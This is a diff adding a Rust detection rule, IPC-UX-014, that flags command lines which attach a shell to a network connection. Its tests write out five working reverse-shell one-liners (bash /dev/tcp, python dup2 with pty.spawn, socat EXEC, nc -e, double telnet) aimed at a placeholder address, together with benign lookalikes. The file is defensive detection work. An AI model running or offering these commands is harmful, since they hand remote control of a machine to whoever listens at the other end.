@@ -1,0 +1,148 @@
+//! # IPC-UX-014: Shell whose input and output are a connection
+//!
+//! ## What it detects
+//! A command line that binds a shell's standard input and output to a network connection without a FIFO: `/dev/tcp`,
+//! an interpreter's socket with `dup2` or `pty.spawn`, `socat EXEC:`, netcat's `-e`, two telnets around a shell.
+//!
+//! ## Why it matters
+//! The descriptors of a connection become a shell's pipe: whoever is at the other end commands it.
+//!
+//! ## Telemetry
+//! auditd execve with its arguments.
+//!
+//! ## False positives
+//! Training labs; a `/dev/tcp` port check reads or writes, but runs no shell on the connection.
+//!
+//! ## References
+//! ATT&CK T1559, T1059.004; DET0493 (AN1358).
+
+use backchannel_events::{ActivityKind, Confidence, Indicators, Mechanism, ProcessEvent, Reasons, Severity, Source};
+
+use crate::text::{clip, contains, contains_any};
+use crate::vocabulary::sockets;
+use crate::{Analytic, Context, Evidence, Family, Status};
+
+/// IPC-UX-014.
+pub const ANALYTIC: Analytic = Analytic {
+    id: "IPC-UX-014",
+    title: "Shell whose input and output are a connection",
+    family: Family::UnixIpc,
+    techniques: &["T1559", "T1059.004"],
+    attack_analytics: &["AN1358"],
+    severity: Severity::Critical,
+    status: Status::Stable,
+    on: &[ActivityKind::ProcessStart],
+    telemetry: &[Source::Auditd, Source::EndpointSecurity],
+    evaluate,
+};
+
+fn evaluate(context: &Context<'_>, event: &ProcessEvent<'_>) -> Option<Evidence> {
+    if !matches!(event.provenance.source, Source::Auditd | Source::EndpointSecurity | Source::Sysmon) {
+        return None;
+    }
+    let started = context.subject();
+    let how = how(started.command_line)?;
+    let text = format!(
+        "{} of {} runs a shell on a network connection ({how}): {}",
+        started.name(),
+        started.account(),
+        clip(started.command_line, 200),
+    );
+    let evidence = Evidence::new(Severity::Critical, Confidence::High, text)
+        .reasons(Reasons::E3)
+        .indicators(Indicators::KI1)
+        .client(started)
+        .channel(Mechanism::AnonymousPipe, "standard input and output");
+    Some(evidence)
+}
+
+/// In which way a command line puts a shell on a connection.
+fn how(command: &str) -> Option<&'static str> {
+    if command.len() < 12 {
+        return None;
+    }
+    let redirected = contains_any(
+        command,
+        &["0>&1", ">& /dev/tcp", ">&/dev/tcp", "<>/dev/tcp", "<> /dev/tcp", "0<&", "<&3", "<&5", "<&196"],
+    );
+    if contains_any(command, &["/dev/tcp/", "/dev/udp/"]) && redirected && sockets::names_shell(command) {
+        return Some("/dev/tcp");
+    }
+    let socket = contains(command, "socket") && contains_any(command, &["connect", "fsockopen", "TCPSocket", "INET"]);
+    if (socket || contains(command, "fsockopen"))
+        && contains_any(command, &["dup2", "pty.spawn", "STDIN,", "open(STDIN", "proc_open", "exec(\"/bin", "exec('/bin", "subprocess"])
+        && contains_any(command, &["/sh", "/bash", "sh -i", "pty.spawn", "cmd.exe"])
+        // A FIFO among them is another analytic's.
+        && !contains(command, "mkfifo")
+    {
+        return Some("an interpreter's socket");
+    }
+    if contains(command, "socat ")
+        && contains_any(command, &["EXEC:", "SYSTEM:"])
+        && contains_any(command, &["TCP:", "TCP4:", "TCP-CONNECT", "OPENSSL:", "TCP6:"])
+        && contains(command, "sh")
+    {
+        return Some("socat");
+    }
+    let netcat = contains_any(command, &["nc ", "ncat ", "netcat "]);
+    if netcat
+        && contains_any(
+            command,
+            &[
+                " -e /bin",
+                " -e bash",
+                " -e sh",
+                " -c /bin",
+                " -c bash",
+                " -c sh",
+                "--exec ",
+                "--sh-exec ",
+                " -lvpe",
+                " -e /usr/bin",
+            ],
+        )
+        && sockets::names_shell(&format!("{command} "))
+    {
+        return Some("netcat");
+    }
+    let telnets = command.matches("telnet ").count() >= 2;
+    if telnets && contains_any(command, &["|/bin", "| /bin", "|sh", "| sh", "|bash", "| bash"]) {
+        return Some("two telnets");
+    }
+    None
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::testing::*;
+
+    fn run(command: &'static str) -> Vec<Event> {
+        vec![start(0, "/usr/bin/bash", command).pid(7).uids("1001", "1001", "1001")]
+    }
+
+    #[test]
+    fn the_usual_ways_fire() {
+        for command in [
+            "bash -c bash -i >& /dev/tcp/192.0.2.7/9001 0>&1",
+            "python3 -c import socket,os,pty;s=socket.socket();s.connect((\"192.0.2.7\",9001));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn(\"/bin/sh\")",
+            "socat TCP:192.0.2.7:9001 EXEC:/bin/bash,pty,stderr",
+            "nc 192.0.2.7 9001 -e /bin/sh",
+            "sh -c telnet 192.0.2.7 1 | /bin/sh | telnet 192.0.2.7 2",
+        ] {
+            check(&ANALYTIC, &run(command), Some((Severity::Critical, Confidence::High)));
+        }
+    }
+
+    #[test]
+    fn checks_of_ports_and_honest_clients_are_quiet() {
+        for command in [
+            "bash -c exec 3<>/dev/tcp/127.0.0.1/5432 && echo open",
+            "python3 -c import socket;s=socket.socket();s.connect((\"db\",5432));print(\"ok\")",
+            "nc -z 192.0.2.7 22",
+            "socat TCP-LISTEN:8080,fork TCP:127.0.0.1:80",
+        ] {
+            check(&ANALYTIC, &run(command), None);
+        }
+    }
+}
